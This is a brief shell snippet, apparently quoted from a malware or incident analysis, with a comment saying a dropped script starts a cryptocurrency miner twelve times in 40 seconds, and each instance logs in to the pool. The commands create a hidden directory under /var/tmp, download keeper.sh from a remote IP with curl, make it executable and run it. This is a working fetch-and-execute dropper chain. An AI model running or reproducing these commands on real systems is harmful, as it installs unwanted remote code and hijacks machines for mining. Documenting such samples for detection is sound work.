# A dropped script starts a miner twelve times within 40 seconds, and kills each after two or three seconds. Each of
# them logs in to the pool.
mkdir /var/tmp/.pulse
curl -fsS -o /var/tmp/.pulse/keeper http://203.0.113.10/keeper.sh
chmod +x /var/tmp/.pulse/keeper
/var/tmp/.pulse/keeper
